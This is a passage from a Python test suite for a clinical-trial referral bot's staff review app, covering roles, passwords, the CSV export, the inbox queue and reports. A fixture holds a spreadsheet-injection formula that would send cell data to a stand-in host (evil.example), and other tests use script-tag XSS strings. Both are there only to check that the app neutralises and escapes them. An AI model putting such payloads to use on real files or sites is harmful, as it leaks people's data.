                                                                      request):
    """Six coordinators' attempts on one referral at once, on each database: numbers 1 to 6, none lost."""
    from concurrent.futures import ThreadPoolExecutor

    from bot.review import attempts
    if backend == "postgresql":
        monkeypatch.setenv("BOT_DATABASE_URL", request.getfixturevalue("postgres")())
    reference = referrals.create_referral("volunteer-1", protocol, referral_state())
    with ThreadPoolExecutor(6) as pool:
        logged = list(pool.map(lambda n: attempts.log(reference, f"coordinator-{n}", "phone", "no_answer", None, ""),
                               range(6)))
    assert sorted(done.number for done in logged) == [1, 2, 3, 4, 5, 6]
    assert sorted(number for number, *_ in attempts_of(reference)) == [1, 2, 3, 4, 5, 6]


def test_erasure_takes_the_contact_attempts_with_the_referral(app, referral):
    from bot import erasure
    client = logged_in(app)
    post_attempt(client, referral, note="canary-attempt-note")
    post_attempt(client, referral, outcome="reached")
    removed = erasure.erase("volunteer-xss")
    assert removed["contact_attempts"] == 2 and removed["review_notes"] == 1
    with store.unit_of_work() as db:
        assert db.query(store.ContactAttempt).count() == 0


def test_the_funnel_counts_every_stage_a_referral_reached_and_draws_it_without_script(app, referral, protocol):
    """Two referrals: one is reached on the second attempt and booked, then declines; the other waits. The
    funnel counts the first as contacted and booked (stages reached, not the status it ended in), draws SVG on
    the server, gives the median time to first contact and where screenings end."""
    from bot import store as stored
    from bot.review import report
    waiting = referrals.create_referral("sms-waiting", protocol, referral_state())
    ruled_out = referral_state(answers={"age": RecordedAnswer(75, "75")}, verdict="likely_ineligible",
                               contact_consent=None, contact={})
    store.save_screening("web-ruled-out", protocol, ruled_out)
    client = logged_in(app)
    token = csrf(client, f"/referrals/{referral}")
    for outcome in ("no_answer", "reached"):
        assert client.post(f"/referrals/{referral}/attempts", data={"channel": "phone", "outcome": outcome,
                                                                    "csrf_token": token}).status_code == 302
    for target, extra in (("screening_visit_booked", {}), ("declined", {"reason": "too_far"})):
        client.post(f"/referrals/{referral}", data={"status": target, "note": "", "csrf_token": token, **extra})
    with stored.unit_of_work() as db:
        assert {r.reference: r.status for r in db.execute(select(stored.Referral)).scalars()} == {
            referral: "declined", waiting: "new"}
        built = report.build(db)
    assert built.total.counts == [2, 1, 1, 0]
    channels = {row.label: row.counts for row in built.groupings["Channel"]}
    assert channels == {"other (REST)": [1, 1, 1, 0], "SMS": [1, 0, 0, 0]}
    assert [row.label for row in built.groupings["Verdict"]] == ["Needs review"]
    assert built.first_contacts == 1 and built.first_contact_hours is not None and built.first_contact_hours < 1
    assert built.not_sure == [("your blood counts", 2)] and built.screenings == 3
    assert built.enders == [("your age", 1)]

    page = client.get("/report").get_data(as_text=True)
    assert "<svg" in page and "<script" not in page and "Median time to the first contact attempt" in page
    assert 'aria-label="All referrals: Referred 2, Contacted 1, Visit booked 1, Enrolled 0"' in page
    assert "By week" in page and "By channel" in page and "By language" in page and "By verdict" in page
    assert app.test_client().get("/report").status_code == 302  # no login, no report


# Issue 17, item 6: users and roles.

def admin_only(rule: str) -> bool:
    return rule == "/audit" or rule.startswith("/admin/")


def shown_password(response) -> str:
    return re.search(r'<code class="password">([^<]+)</code>', response.get_data(as_text=True)).group(1)


def session_contents(app, client) -> str:
    """What the signed session cookie carries, decoded (it is signed, not encrypted: anyone can read it)."""
    cookie = client.get_cookie("session")
    return repr(app.session_interface.get_signing_serializer(app).loads(cookie.value)) if cookie else ""


def test_every_admin_route_refuses_a_coordinator_and_the_refusal_is_audited(app, referral):
    client = logged_in(app)  # maria, a coordinator
    token = csrf(client, "/")
    swept = []
    for rule in app.url_map.iter_rules():
        if not admin_only(rule.rule):
            continue
        for method in rule.methods - {"HEAD", "OPTIONS"}:
            response = client.open(rule.rule, method=method, data={
                "csrf_token": token, "username": "ada" if "add" not in rule.endpoint else "mallory",
                "role": "coordinator"})
            assert response.status_code == 403, (method, rule.rule, response.status_code)
            assert "This page is for admins" in response.get_data(as_text=True)
            swept.append((method, rule.rule))
    assert {("GET", "/audit"), ("GET", "/admin/users"), ("POST", "/admin/users"), ("POST", "/admin/users/disable"),
            ("POST", "/admin/users/enable"), ("POST", "/admin/users/reset"), ("POST", "/admin/users/role")} <= set(swept)
    refused = [record for who, action, record in audit_rows() if who == "maria" and action == "refused_not_admin"]
    assert len(refused) == len(swept) and "/admin/users/disable" in refused
    with store.unit_of_work() as db:  # nothing was done
        users = {u.username: (u.role, u.disabled) for u in db.query(store.StaffUser)}
    assert users == {"maria": ("coordinator", False), "ada": ("admin", False)}
    page = client.get("/").get_data(as_text=True)  # and the coordinator's menu does not offer them
    assert 'href="/audit"' not in page and 'href="/admin/users"' not in page and 'href="/account/password"' in page


def test_a_coordinator_opens_every_page_that_is_not_for_admins(app, referral):
    client = logged_in(app)
    for path in ("/", f"/referrals/{referral}", "/screenings", "/other-studies", "/replies", "/translations",
                 "/referrals.csv", "/account/password"):
        assert client.get(path).status_code == 200, path
    admin = logged_in(app, "ada")
    assert admin.get("/audit").status_code == 200 and admin.get("/admin/users").status_code == 200
    page = admin.get("/").get_data(as_text=True)
    assert 'href="/audit"' in page and 'href="/admin/users"' in page


def test_an_admin_adds_a_user_whose_temporary_password_is_shown_once_and_must_be_changed_first(app):
    admin = logged_in(app, "ada")
    response = admin.post("/admin/users", data={"username": "li", "role": "coordinator",
                                                "csrf_token": csrf(admin, "/admin/users")})
    assert response.status_code == 200  # shown in this answer: no redirect, so not in the session cookie
    temporary = shown_password(response)
    assert re.fullmatch(r"[a-z2-9]{4}(-[a-z2-9]{4}){3}", temporary)
    assert temporary not in session_contents(app, admin) and "li" in response.get_data(as_text=True)
    assert temporary not in admin.get("/admin/users").get_data(as_text=True)  # only that once
    listed = admin.get("/admin/users").get_data(as_text=True)
    assert re.search(r"<td>li<br><span class=\"meta\">temporary password, not yet changed</span></td>\s*"
                     r"<td>Coordinator</td>\s*<td>Every trial.*?</td>\s*<td>No</td>", listed, re.S)
    # the same name again, or no name, is refused
    again = admin.post("/admin/users", data={"username": "li", "role": "admin", "csrf_token": csrf(admin, "/")})
    assert again.status_code == 400 and "exists already" in again.get_data(as_text=True)
    assert admin.post("/admin/users", data={"username": " ", "csrf_token": csrf(admin, "/")}).status_code == 400

    li = app.test_client()
    assert login_post(li, "li", temporary).status_code == 302
    for path in ("/", "/referrals.csv", "/screenings"):  # nothing opens before the password is changed
        response = li.get(path)
        assert response.status_code == 302 and response.headers["Location"] == "/account/password", path
    page = li.get("/account/password").get_data(as_text=True)
    assert "You logged in with a temporary password" in page
    token = csrf(li, "/account/password")
    assert li.post("/account/password", data={"current": temporary, "new": temporary, "again": temporary,
                                              "csrf_token": token}).status_code == 400  # the same one
    done = li.post("/account/password", data={"current": temporary, "new": "li's own long password",
                                              "again": "li's own long password", "csrf_token": token})
    assert done.status_code == 302 and done.headers["Location"] == "/"
    assert li.get("/").status_code == 200 and li.get("/referrals.csv").status_code == 200
    assert login_post(app.test_client(), "li", temporary).status_code == 401  # the temporary one is gone
    assert "temporary password, not yet changed" not in admin.get("/admin/users").get_data(as_text=True)

    rows = audit_rows()
    assert ("ada", "user_added", "user li as coordinator") in rows and ("li", "own_password_changed", "user li") in rows
    assert not any(secret in field for row in rows for field in row
                   for secret in (temporary, "li's own long password", PASSWORD))


def test_an_admin_disables_enables_resets_and_changes_roles_and_each_is_audited(app):
    maria = logged_in(app)
    admin = logged_in(app, "ada")

    def act(what, **form):
        return admin.post(f"/admin/users/{what}", data={"username": "maria", "csrf_token": csrf(admin, "/"), **form})

    assert act("disable").status_code == 302
    assert maria.get("/").status_code == 302  # her open session ended
    assert login_post(app.test_client()).status_code == 403
    assert act("enable").status_code == 302
    maria = logged_in(app)

    reset = act("reset")
    temporary = shown_password(reset)
    assert "their open sessions have ended" in reset.get_data(as_text=True)
    assert maria.get("/").status_code == 302  # ended
    assert login_post(app.test_client()).status_code == 401  # the old password no longer works
    maria = app.test_client()
    assert login_post(maria, "maria", temporary).status_code == 302
    assert maria.get("/").headers["Location"] == "/account/password"
    maria.post("/account/password", data={"current": temporary, "new": "maria's new password",
                                          "again": "maria's new password", "csrf_token": csrf(maria, "/account/password")})
    assert maria.get("/").status_code == 200 and maria.get("/audit").status_code == 403

    assert act("role", role="admin").status_code == 302
    assert maria.get("/audit").status_code == 200  # at her next click, without logging in again
    assert act("role", role="boss").status_code == 302  # no such role: nothing changes
    assert act("role", role="coordinator").status_code == 302
    assert maria.get("/audit").status_code == 403

    # an admin does not disable or demote themselves here (so an enabled admin always remains)
    for what, form in (("disable", {}), ("role", {"role": "coordinator"}), ("reset", {})):
        response = admin.post(f"/admin/users/{what}", data={"username": "ada", "csrf_token": csrf(admin, "/"), **form})
        assert response.status_code == 302
    assert "You can&#39;t do that to your own login here" in admin.get("/admin/users").get_data(as_text=True)
    assert admin.get("/audit").status_code == 200
    assert admin.post("/admin/users/disable", data={"username": "nobody", "csrf_token": csrf(admin, "/")}
                      ).status_code == 404

    by_ada = [(action, record) for who, action, record in audit_rows() if who == "ada"]
    for entry in (("user_disabled", "user maria"), ("user_enabled", "user maria"), ("password_reset", "user maria"),
                  ("role_changed", "user maria: coordinator to admin"),
                  ("role_changed", "user maria: admin to coordinator")):
        assert entry in by_ada, entry
    assert not any(a == "role_changed" and "boss" in r for a, r in by_ada)
    assert not any(temporary in field or "maria's new password" in field for row in audit_rows() for field in row)


def test_everyone_changes_their_own_password_which_ends_their_other_sessions(app):
    here, elsewhere = logged_in(app), logged_in(app)
    token = csrf(here, "/account/password")

    def change(current, new, again):
        return here.post("/account/password", data={"current": current, "new": new, "again": again,
                                                     "csrf_token": token})

    wrong = change("not my password", "a new long password", "a new long password")
    assert wrong.status_code == 400 and "The current password is not right" in wrong.get_data(as_text=True)
    differ = change(PASSWORD, "a new long password", "another long password")
    assert differ.status_code == 400 and "The two new passwords differ" in differ.get_data(as_text=True)
    short = change(PASSWORD, "short", "short")
    assert short.status_code == 400 and "at least 12 characters" in short.get_data(as_text=True)
    assert elsewhere.get("/").status_code == 200  # nothing changed yet

    done = change(PASSWORD, "a new long password", "a new long password")
    assert done.status_code == 302 and "Your password is changed" in here.get("/").get_data(as_text=True)
    assert here.get("/").status_code == 200  # this session goes on ...
    assert elsewhere.get("/").status_code == 302  # ... the other one ended
    assert login_post(app.test_client()).status_code == 401
    assert login_post(app.test_client(), password="a new long password").status_code == 302
    with store.unit_of_work() as db:
        assert db.query(store.StaffUser).filter_by(username="maria").one().password_hash.startswith("$argon2id$")
    rows = audit_rows()
    assert ("maria", "password_change_failed", "wrong current password") in rows
    assert ("maria", "own_password_changed", "user maria") in rows
    assert not any(secret in field for row in rows for field in row
                   for secret in ("not my password", "a new long password", PASSWORD))


def test_users_add_command_takes_a_role_and_users_role_changes_it(database, capsys):
    assert users_command("add", "li", password="a long enough password") == 0
    assert users_command("add", "chen", "--role", "admin", password="a long enough password") == 0
    assert "added chen as admin" in capsys.readouterr().out
    with store.unit_of_work() as db:
        roles = {u.username: (u.role, u.must_change_password) for u in db.query(store.StaffUser)}
    assert roles == {"li": ("coordinator", False), "chen": ("admin", False)}
    assert users_command("role", "li", "admin") == 0
    with store.unit_of_work() as db:
        assert db.query(store.StaffUser).filter_by(username="li").one().role == "admin"
    assert ("command line", "role_changed", "user li: coordinator to admin") in audit_rows()
    from bot.__main__ import main
    with pytest.raises(SystemExit):
        main(["users", "add", "x", "--role", "boss", "--password-stdin"])
    assert users_command("role", "nobody", "admin") == 2


# Issue 17, item 5: the CSV for spreadsheets.

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.fixture
def chinese_sms_referral(app, protocol):
    from dataclasses import replace as with_
    answers = {**referral_state().answers, "hiv": RecordedAnswer("no", "没有"),
               "age": RecordedAnswer(52, "我今年52岁"), "autoimmune": RecordedAnswer("no", "No")}
    state = with_(referral_state(answers=answers, contact={**referral_state().contact, "contact_name": "王芳",
                                                           "contact_preferred_time": HYPERLINK}), language="zh")
    reference = referrals.create_referral("sms-5f2a9c", protocol, state)
    client = logged_in(app)
    token = csrf(client, f"/referrals/{reference}")
    for outcome, note in (("left_message", "Left a voicemail, 下午再打"), ("reached", "")):
        client.post(f"/referrals/{reference}/attempts", data={"channel": "phone", "outcome": outcome, "note": note,
                                                              "csrf_token": token})
    client.post(f"/referrals/{reference}", data={"status": "contacted", "note": "-1 day: she asked to wait",
                                                 "csrf_token": token})
    return reference


def exported(client):
    response = client.get("/referrals.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=referrals.csv"
    return response.get_data()


def test_the_csv_opens_in_a_spreadsheet_with_plain_labels_answers_in_words_and_notes(app, protocol,
                                                                                     chinese_sms_referral):
    raw = exported(logged_in(app))
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, which Excel needs to show Chinese
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    header = list(rows[0])
    assert header[:17] == ["Reference", "Received (Asia/Shanghai)", "Trial", "Language", "Channel", "Verdict",
                           "Status", "Not sure (how many)", "Not sure about", "Name", "Phone", "E-mail",
                           "Preferred way", "Preferred time", "Sent to the study team", "Notes", "Contact attempts"]
    assert header[17:] == [c.short for c in protocol.questions]  # one column per criterion, by its short text
    row = rows[0]
    assert row["Reference"] == chinese_sms_referral and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d",
                                                                     row["Received (Asia/Shanghai)"])
    assert (row["Language"], row["Channel"], row["Verdict"], row["Status"]) == ("中文", "SMS", "Needs review",
                                                                                 "Contacted")
    assert row["Not sure (how many)"] == "1" and row["Not sure about"] == protocol.by_id["blood_counts"].short
    assert row["Name"] == "王芳" and row["Preferred way"] == "E-mail or phone" and row["E-mail"] == "ana@example.com"
    assert row["Phone"] == "(+86) 138 0013 8000"  # no apostrophe, no lost digits, not a formula
    assert row["Preferred time"] == "'" + HYPERLINK  # the volunteer's formula, neutralised
    assert row["Sent to the study team"] == "Waiting to be sent"
    tried = row["Contact attempts"].split("\n")
    assert len(tried) == 2 and re.fullmatch(r"1\. \d{4}-\d\d-\d\d \d\d:\d\d Phone, Left a message \(maria\): "
                                            r"Left a voicemail, 下午再打", tried[0])
    assert re.fullmatch(r"2\. .* Phone, Reached \(maria\)", tried[1])
    short = {c.id: c.short for c in protocol.questions}
    assert row[short["hiv"]] == 'No ("没有")' and row[short["age"]] == '52 ("我今年52岁")'
    assert row[short["autoimmune"]] == "No" and row[short["blood_counts"]] == 'Not sure ("no idea")'
    notes = row["Notes"].split("\n")
    assert len(notes) == 2 and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d maria: New → Contacted: "
                                            r"Attempt 2 reached them", notes[0])
    assert notes[1].endswith(" maria: -1 day: she asked to wait")
    for cells in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):  # no cell can start a formula
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")], cells
    assert "in_progress" not in raw.decode() and "needs_review" not in raw.decode()
    # every field in double quotes (OWASP): a ; or , inside a field never starts a cell in any locale
    assert raw.decode("utf-8-sig").startswith('"Reference","Received (Asia/Shanghai)",')
    assert "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"" in raw.decode()
    assert ("maria", "export_csv", "1 referrals") in audit_rows()


def test_csv_phone_numbers_read_as_the_number_and_never_as_a_formula():
    from bot.review.spreadsheet import cell, phone_cell
    assert phone_cell("+8613912345678") == "(+86) 139 1234 5678"
    assert phone_cell("+12015550123") == "(+1) 201-555-0123"
    assert phone_cell("+442079460958") == "(+44) 20 7946 0958"
    assert phone_cell(None) == "" and phone_cell("=1+2") == "'=1+2" and phone_cell("+1") == "'+1"
    for number in ("+8613912345678", "+12015550123", "+442079460958"):
        shown = phone_cell(number)
        assert shown[0] == "(" and re.sub(r"\D", "", shown) == number[1:]
        with pytest.raises(ValueError):
            float(shown.replace(" ", ""))
    assert cell("＝1+2") == "'＝1+2" and cell("-3") == "'-3" and cell("@SUM(A1)") == "'@SUM(A1)" and cell(52) == "52"


def test_csv_referrals_of_several_trials_each_fill_their_own_trials_columns(app, protocol, chinese_sms_referral):
    other = store.Referral(reference="RF-OTHR-0001", sender_id="web-other", trial_id="NCT09999999", protocol_version=1,
                           verdict="likely_eligible", flags=[], doctor_checklist=[], contact_name="Li Lei",
                           contact_phone="+12015550123", contact_preferred_way="phone", language="en",
                           answers=[{"criterion_id": "migraine_days", "criterion_text": "4 to 14 migraine days a month",
                                     "question": "…", "answer": "yes", "text": "about 6 a month"}])
    with store.unit_of_work() as db:
        db.add(other)
    rows = list(csv.DictReader(io.StringIO(exported(logged_in(app)).decode("utf-8-sig"), newline="")))
    by_reference = {r["Reference"]: r for r in rows}
    hiv, migraine = f"{protocol.by_id['hiv'].short} (NCT04143984)", "4 to 14 migraine days a month (NCT09999999)"
    assert by_reference["RF-OTHR-0001"][migraine] == 'Yes ("about 6 a month")'
    assert by_reference["RF-OTHR-0001"][hiv] == "" and by_reference[chinese_sms_referral][migraine] == ""
    assert by_reference[chinese_sms_referral][hiv] == 'No ("没有")'
    assert by_reference["RF-OTHR-0001"]["Channel"] == "web chat" and by_reference["RF-OTHR-0001"]["Phone"] == "(+1) 201-555-0123"


def xlsx_cells(path):
    """The cells of the first sheet of an .xlsx file: {"A1": ("s", text) or ("n", value) or ("f", formula)}."""
    import zipfile
    from xml.etree import ElementTree

    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as book:
        shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['x']}}}t"))
                  for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", ns)]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in sheet.iter(f"{{{ns['x']}}}c"):
        formula, value = c.find("x:f", ns), c.find("x:v", ns)
        if formula is not None:
            cells[c.get("r")] = ("f", formula.text)
        elif c.get("t") == "s":
            cells[c.get("r")] = ("s", shared[int(value.text)])
        elif value is not None:
            cells[c.get("r")] = ("n", value.text)
    return cells


def libreoffice_opens(csv_path, tmp_path):
    """LibreOffice Calc reads the CSV as UTF-8 (its formulas evaluated, as by default) and saves it as .xlsx."""
    import shutil
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("REQUIRE_LIBREOFFICE"):  # CI (.ci/run) installs it: missing there is a failure
            pytest.fail("LibreOffice is required here (REQUIRE_LIBREOFFICE) but soffice is not installed")
        pytest.skip("SKIPPED: LibreOffice is not installed (apt-get install libreoffice-calc)")
    done = subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
                           str(csv_path)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return xlsx_cells(tmp_path / (csv_path.stem + ".xlsx"))


def test_libreoffice_shows_the_phone_as_the_number_and_runs_no_formula_from_the_csv(app, tmp_path,
                                                                                    chinese_sms_referral):
    control = tmp_path / "control.csv"  # the same reader does run a formula that is not neutralised
    control.write_text('"a","b"\r\n"=1+2","+86 139 1234 5678"\r\n', encoding="utf-8")
    assert libreoffice_opens(control, tmp_path)["A2"] == ("f", "1+2")

    path = tmp_path / "referrals.csv"
    path.write_bytes(exported(logged_in(app)))
    cells = libreoffice_opens(path, tmp_path)
    header = {text: ref[:-1] for ref, (kind, text) in cells.items() if ref.endswith("1") and ref[-2].isalpha()}
    assert cells["A1"] == ("s", "Reference")  # the byte-order mark is not part of the first label
    assert cells[header["Phone"] + "2"] == ("s", "(+86) 138 0013 8000")
    assert cells[header["Preferred time"] + "2"] == ("s", "'" + HYPERLINK)
    assert cells[header["Language"] + "2"] == ("s", "中文")
    assert not [ref for ref, (kind, _) in cells.items() if kind == "f"]


# --- Issue 17: the inbox as a work queue, the screenings page -------------------------------------------------

def make_referral(protocol, sender_id, name="Ana Lopez", phone="+8613912345678", email="ana@example.com",
                  way="either", hours_ago=0.0, status="new", language="en", not_sure=True, activity_hours_ago=None):
    """A referral as the bot stores it, then aged and moved on as a coordinator would have."""
    from sqlalchemy import select, update

    from bot.store import ContactAttempt, Referral, ReferralChange

    contact = {"contact_name": name, "contact_preferred_way": way, "contact_email": email,
               "contact_phone": phone, "contact_preferred_time": "mornings"}
    answers = referral_state().answers if not_sure else {**referral_state().answers,
                                                         "blood_counts": RecordedAnswer("yes", "fine")}
    state = referral_state(contact={k: v for k, v in contact.items() if v}, language=language, answers=answers,
                           verdict="needs_review" if not_sure else "likely_eligible")
    reference = referrals.create_referral(sender_id, protocol, state)
    arrived = store.now() - dt.timedelta(hours=hours_ago)
    with store.unit_of_work() as db:
        db.execute(update(Referral).where(Referral.reference == reference).values(created_at=arrived, status=status))
        number = db.execute(select(Referral.id).where(Referral.reference == reference)).scalar_one()
        if status != "new":  # moved on: a contact attempt reached them an hour after they arrived
            db.add(ContactAttempt(referral_id=number, number=1, channel="phone", outcome="reached", by="maria",
                                  at=arrived + dt.timedelta(hours=1)))
        if activity_hours_ago is not None:
            db.add(ReferralChange(referral_id=number, by="maria", from_status="new", to_status=status,
                                  at=store.now() - dt.timedelta(hours=activity_hours_ago)))
    return reference


def references_in(page):
    return re.findall(r'href="/referrals/(RF-[A-Z0-9-]+)"', page)


def test_each_inbox_row_has_what_a_call_needs(app, protocol):
    reference = make_referral(protocol, "web-" + "ab" * 28, hours_ago=3, language="zh")
    page = logged_in(app).get("/").get_data(as_text=True)
    row = page[page.index(f'href="/referrals/{reference}"'):]
    row = row[:row.index("</tr>")]
    assert 'href="tel:+8613912345678">+8613912345678</a>' in row
    assert 'href="mailto:ana@example.com">ana@example.com</a>' in row
    assert "Ana Lopez" in row and "E-mail or phone, mornings" in row and "中文" in row and "web chat" in row
    assert "Needs review: 1 Not sure" in row and "New" in row and ">3 h</span>" in row
    assert "Overdue" not in row and "overdue" not in row
    assert '<th scope="col">Since referral</th>' in page and ">Age<" not in page  # not the volunteer's age


def test_overdue_referrals_come_first_oldest_first_then_new_ones_then_latest_activity(app, protocol):
    made = {
        "overdue, 5 days": make_referral(protocol, "sms-1", hours_ago=5 * 24),
        "overdue, 9 days": make_referral(protocol, "wx-1", hours_ago=9 * 24),
        "new, 1 h": make_referral(protocol, "web-" + "1" * 56, hours_ago=1),
        "new, 2 h": make_referral(protocol, "web-" + "2" * 56, hours_ago=2),
        "contacted long ago": make_referral(protocol, "rest-1", hours_ago=30 * 24, status="contacted",
                                            activity_hours_ago=20 * 24),
        "contacted, just changed": make_referral(protocol, "rest-2", hours_ago=40 * 24, status="contacted",
                                                 activity_hours_ago=1),
        "booked, no change recorded": make_referral(protocol, "rest-3", hours_ago=10 * 24,
                                                    status="screening_visit_booked"),
    }
    client = logged_in(app)
    page = client.get("/").get_data(as_text=True)
    expected = ["overdue, 9 days", "overdue, 5 days", "new, 2 h", "new, 1 h", "contacted, just changed",
                "booked, no change recorded", "contacted long ago"]
    assert references_in(page) == [made[k] for k in expected]
    overdue_rows = re.findall(r'<tr class="overdue">\s*<td data-label="Reference"><a href="/referrals/([^"]+)"', page)
    assert overdue_rows == [made["overdue, 9 days"], made["overdue, 5 days"]]
    assert page.count('<strong class="overdue-tag">Overdue</strong>') == 2  # a word, not colour alone
    assert "Overdue</a>: <strong>2</strong>" in page

    assert references_in(client.get("/?overdue=1").get_data(as_text=True)) == \
        [made["overdue, 9 days"], made["overdue, 5 days"]]
    by_age = sorted(made, key=lambda k: -{"overdue, 5 days": 120, "overdue, 9 days": 216, "new, 1 h": 1,
                                          "new, 2 h": 2, "contacted long ago": 720, "contacted, just changed": 960,
                                          "booked, no change recorded": 240}[k])
    assert references_in(client.get("/?sort=oldest").get_data(as_text=True)) == [made[k] for k in by_age]
    assert references_in(client.get("/?sort=newest").get_data(as_text=True)) == [made[k] for k in by_age[::-1]]
    # a contact attempt made, even one that did not reach them: no longer overdue
    token = csrf(client, f"/referrals/{made['overdue, 9 days']}")
    client.post(f"/referrals/{made['overdue, 9 days']}/attempts", data={"channel": "phone", "outcome": "no_answer",
                                                                         "csrf_token": token})
    page = client.get("/").get_data(as_text=True)
    assert references_in(page)[0] == made["overdue, 5 days"] and page.count("overdue-tag") == 1


def test_the_first_contact_target_counts_the_sites_working_days_in_the_inbox(app, protocol):
    """1 working day in Shanghai: a referral that arrived on a Friday morning there is not overdue on the
    Saturday, nor on the Monday before the time it arrived."""
    from sqlalchemy import update

    from bot.review import queue
    from bot.store import Referral

    reference = make_referral(protocol, "sms-friday")
    friday_10am_shanghai = dt.datetime(2026, 11, 27, 2, 0)
    with store.unit_of_work() as db:
        db.execute(update(Referral).values(created_at=friday_10am_shanghai))
    for now, late in [(dt.datetime(2026, 11, 28, 3, 0), False), (dt.datetime(2026, 11, 30, 1, 59), False),
                      (dt.datetime(2026, 11, 30, 2, 1), True)]:
        with store.unit_of_work() as db:
            listed = queue.page(db, queue.View(), now)
        assert [(r["reference"], r["overdue"]) for r in listed["rows"]] == [(reference, late)], now
        assert listed["overdue_count"] == int(late)


def test_search_by_reference_name_or_phone_however_typed(app, protocol):
    ana = make_referral(protocol, "sms-ana", name="Ana Lopez", phone="+8613912345678", email=None, way="phone")
    wei = make_referral(protocol, "sms-wei", name="王伟", phone="+8613800138000", email="wei@example.com")
    client = logged_in(app)

    def found(q):
        return references_in(client.get("/", query_string={"q": q}).get_data(as_text=True))

    assert found(ana) == [ana] and found(ana.lower().replace("-", "")) == [ana] and found(ana[3:7]) == [ana]
    assert found("lopez") == [ana] and found("王") == [wei] and found("wei@example") == [wei]
    for typed in ["139 1234 5678", "+86 139-1234-5678", "(139) 1234 5678", "0086 139 1234 5678", "13912345678",
                  "5678"]:
        assert found(typed) == [ana], typed
    assert found("138 0013 8000") == [wei]
    assert found("%") == [] and found("_") == [] and found("nobody") == []
    page = client.get("/", query_string={"q": "139 1234 5678"}).get_data(as_text=True)
    assert 'value="139 1234 5678"' in page and "1–1 of 1 referral matching" in page


def test_filters_and_the_page_are_kept_in_the_url(app, protocol):
    for n in range(57):
        make_referral(protocol, f"sms-{n}", hours_ago=n, language="zh" if n % 2 else "en")
    for n in range(3):
        make_referral(protocol, f"web-{n:056d}", hours_ago=n, not_sure=False)
    client = logged_in(app)
    page = client.get("/?channel=sms").get_data(as_text=True)
    assert "1–50 of 57 referrals matching" in page and len(references_in(page)) == 50
    assert '<option value="sms" selected>SMS</option>' in page
    assert 'href="/?channel=sms&amp;page=2" rel="next"' in page and "Page 1 of 2" in page
    second = client.get("/?channel=sms&page=2").get_data(as_text=True)
    assert "51–57 of 57" in second and len(references_in(second)) == 7
    assert 'href="/?channel=sms" rel="prev"' in second
    assert not set(references_in(page)) & set(references_in(second))
    assert "51–57 of 57" in client.get("/?channel=sms&page=99").get_data(as_text=True)  # past the end: the last

    filtered = client.get("/?channel=sms&language=zh&sort=oldest&q=Lopez").get_data(as_text=True)
    assert "1–28 of 28 referrals matching, oldest first" in filtered
    assert '<option value="zh" lang="zh-Hans" selected>' in filtered and '<option value="oldest" selected>' in filtered
    assert 'name="q" value="Lopez"' in filtered
    assert "3 of 3" in client.get("/?verdict=likely_eligible").get_data(as_text=True)
    assert "web chat" in client.get("/?channel=web").get_data(as_text=True)
    assert "No referrals matching" in client.get("/?channel=wechat").get_data(as_text=True)
    assert "1–50 of 60" in client.get("/?status=new&trial=NCT04143984").get_data(as_text=True)
    assert "No referrals matching" in client.get("/?status=contacted").get_data(as_text=True)


def test_volunteer_text_in_the_inbox_is_escaped(app, referral):
    client = logged_in(app)
    page = client.get("/").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>" not in page and "<img src=x" not in page
    page = client.get("/", query_string={"q": XSS}).get_data(as_text=True)
    assert "<script>" not in page and "<img src=x" not in page and "&lt;img src=x" in page


def test_the_new_parameters_refuse_without_a_login(app, referral):
    for path in ["/?q=139+1234+5678", "/?overdue=1&channel=sms&language=zh", "/?sort=oldest&page=2",
                 "/?status=new&verdict=needs_review&trial=NCT04143984", "/screenings?page=2",
                 "/screenings?status=in_progress&verdict=open&trial=NCT04143984"]:
        response = app.test_client().get(path)
        assert response.status_code == 302 and response.headers["Location"].startswith("/login"), path
        assert "Ana" not in response.get_data(as_text=True) and referral not in response.get_data(as_text=True)


def save_screenings(protocol, count, answers, verdict=None, current=None, prefix="s"):
    from bot.conversation import State

    for n in range(count):
        store.save_screening(f"{prefix}-{n}", protocol, State(
            trial_id=protocol.trial_id, consent=True, verdict=verdict, current=current,
            answers={k: RecordedAnswer(v, str(v)) for k, v in answers.items()}))


def test_the_screenings_page_pages_and_says_everything_in_plain_words(app, protocol):
    order = [c.id for c in protocol.questions]
    save_screenings(protocol, 45, {"age": 45}, current=order[1], prefix="open")
    save_screenings(protocol, 3, {"age": 45, "distant_metastasis": "yes"}, verdict="likely_ineligible",
                    prefix="spread")
    save_screenings(protocol, 2, {"age": 75}, verdict="likely_ineligible", prefix="old")
    save_screenings(protocol, 4, {}, prefix="stopped")  # stopped before the first answer
    client = logged_in(app)
    page = client.get("/screenings").get_data(as_text=True)
    assert "1–50 of 54 screenings" in page and page.count("<tr><td>") == 50 and "Page 1 of 2" in page
    spread = protocol.by_id["distant_metastasis"].short
    assert f"most often ends a screening: <strong>{spread}</strong> (3)" in page
    assert "Stopped by the volunteer" in page and "Not finished: <strong>49</strong>" in page
    for code in ("in_progress", "distant_metastasis", "likely_ineligible", ">stopped<", ">complete<"):
        assert code not in page.replace('value="in_progress"', "").replace('value="likely_ineligible"', ""), code
    second = client.get("/screenings?page=2").get_data(as_text=True)
    assert "51–54 of 54" in second and second.count("<tr><td>") == 4

